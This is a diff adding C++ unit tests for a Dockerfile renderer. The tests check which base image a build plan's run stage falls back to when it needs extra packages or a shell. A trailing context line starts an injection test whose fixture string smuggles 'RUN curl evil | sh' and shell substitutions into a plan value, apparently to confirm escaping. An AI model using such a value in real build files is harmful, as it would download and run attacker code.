@@ -121,6 +121,72 @@ TEST(DockerfileRenderer, APinNoStackSatisfiesFailsTheRender) {
   EXPECT_THAT(text.error().message, HasSubstr(".nvmrc:1 asks for node >=30; the stack catalogue offers node 20."));
 }
 
+
+sdk::BuildPlan go_plan_on(const std::string& run_image) {
+  sdk::BuildPlan plan;
+  plan.buildpack = "kiln.go";
+  plan.language = "go";
+  plan.build_image = "go";
+  plan.run_image = run_image;
+  plan.phases = {{"build", {}, {"go build -o /app/server ."}, {}}};
+  plan.artifacts = {{"/app/server", "/app/server"}};
+  plan.start.argv = {"/app/server"};
+  return plan;
+}
+
+TEST(DockerfileRenderer, SlimRunStacksGiveWayWhenThePlanNeedsAptOrAShell) {
+  auto on = [](sdk::BuildPlan plan) {
+    auto text = render_dockerfile(plan, {});
+    EXPECT_TRUE(text.ok()) << text.error().message;
+    auto from = text->find(" AS run\n");
+    auto start = text->rfind("FROM ", from);
+    return text->substr(start + 5, from - start - 5);
+  };
+  EXPECT_EQ(on(go_plan_on("minimal")), "kiln/stack-minimal:bookworm");
+
+  auto with_packages = go_plan_on("minimal");
+  with_packages.run_packages = {"libpq5"};
+  EXPECT_EQ(on(with_packages), "kiln/stack-base:bookworm");
+
+  // minimal has no shell; cc-runtime has dash.
+  auto shell_start = go_plan_on("minimal");
+  shell_start.start = sdk::StartCommand{{}, "/app/server --port $PORT"};
+  EXPECT_EQ(on(shell_start), "kiln/stack-base:bookworm");
+  shell_start.run_image = "cc-runtime";
+  EXPECT_EQ(on(shell_start), "kiln/stack-cc-runtime:bookworm");
+
+  // A versioned run stack gives way to the build stack of its own version.
+  auto python = go_plan_on("python-runtime");
+  python.run_packages = {"libpq5"};
+  EXPECT_EQ(on(python), "kiln/stack-python-3.11:bookworm");
+  python.run_image = sdk::BaseImage::of_runtime("python-runtime", ">=3.13");
+  EXPECT_EQ(on(python), "kiln/stack-python-3.13:trixie");
+  python.run_packages.clear();
+  EXPECT_EQ(on(python), "kiln/stack-python-3.13-runtime:trixie");
+  // Any other image is the user's to choose.
+  auto other = go_plan_on("debian:bookworm-slim");
+  other.run_packages = {"libpq5"};
+  EXPECT_EQ(on(other), "debian:bookworm-slim");
+}
+
+TEST(DockerfileRenderer, AFullerStackTheCatalogueDoesNotHaveIsAnError) {
+  auto catalogue = StackCatalogue::parse(R"([[stack]]
+name = "slim"
+runtime = "slim"
+image = "slim:1"
+fuller = "gone"
+)", "test.toml");
+  ASSERT_TRUE(catalogue.ok()) << catalogue.error().message;
+  RenderOptions options;
+  options.catalogue = *catalogue;
+  options.catalogue.merge(StackCatalogue::builtin());
+  auto plan = go_plan_on("slim");
+  plan.run_packages = {"libpq5"};
+  auto text = render_dockerfile(plan, options);
+  ASSERT_FALSE(text.ok());
+  EXPECT_THAT(text.error().message, HasSubstr("stack slim names the fuller stack gone"));
+}
+
 TEST(DockerfileRenderer, HostileValuesStayInsideTheirInstruction) {
   auto plan = node_plan();
   const std::string hostile = R"(x" \"; RUN curl evil | sh; echo "$(id) `id` ${HOME} \)";
